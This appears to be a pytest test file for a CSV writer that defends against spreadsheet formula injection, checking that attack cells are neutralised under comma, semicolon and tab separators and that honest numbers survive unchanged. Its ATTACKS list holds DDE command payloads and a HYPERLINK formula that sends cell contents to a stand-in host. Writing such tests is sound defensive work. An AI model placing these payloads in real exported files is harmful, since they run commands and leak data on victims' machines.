"""What a spreadsheet would run is written as words, and honest numbers as they were typed."""

from __future__ import annotations

import csv
import io

import pytest

from bookbuilder.csv_files import is_formula, read_csv, write_csv

ATTACKS = (
    '=HYPERLINK("http://a.b?"&A1)', "+cmd|' /C calc'!A0", "- cmd|x!A0", "@SUM(A1)", "-2+3", "-2-3", "+2*3", "-2* (3)", "\t=SUM(1)", "\r=SUM(1)", " =1", "\u200b=1",
    "\ufeff=1", "＝1+1", "＠SUM(A1)", "－A1", "|x", "a;=cmd|'/C calc'!A0", 'a;""=cmd|x!A0', "a\t@SUM(A1)", "a\n-HYPERLINK(1)", "-" + "1" * 2000 + "+A1", "-" + "*" * 400 + "A1",
)  # fmt: skip
HONEST = (
    "-3.2", "−3", "+5", "–", "-", "--", "+", "+/-", "++", "-1.5e-3", "-0.34***", "-0.34** (0.12)", "-€5", "+3 %", "-3–5", "-.5", "+7 701 000", "1-2", "a-b",
    "(−3)", "pros; -cons", "a = b", "x@y.z", "A1", "", "'=1",
)  # fmt: skip


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_attack_begins_a_cell_however_a_country_parts_cells(separator: str) -> None:
    text = write_csv([["name", attack] for attack in ATTACKS], separator).decode()
    for other in {",", ";", "\t"} if separator == "," else {separator}:
        rows = csv.reader(io.StringIO(text, newline=""), delimiter=other)
        begins = [cell.lstrip(' \t\r"\u200b\ufeff')[:1] for row in rows for cell in row]
        assert not set(begins) & set("=+-@|＝＠－"), begins
    assert all(is_formula(attack, separator) for attack in ATTACKS if separator not in attack)


def test_honest_cells_are_written_as_typed() -> None:
    assert read_csv(write_csv([list(HONEST)]).decode(), ",") == [list(HONEST)]
    assert not [cell for cell in HONEST if is_formula(cell)]


def test_a_cell_may_be_long() -> None:
    assert len(read_csv("a," + "x" * 300_000, ",", strict=True)[0][1]) == 300_000
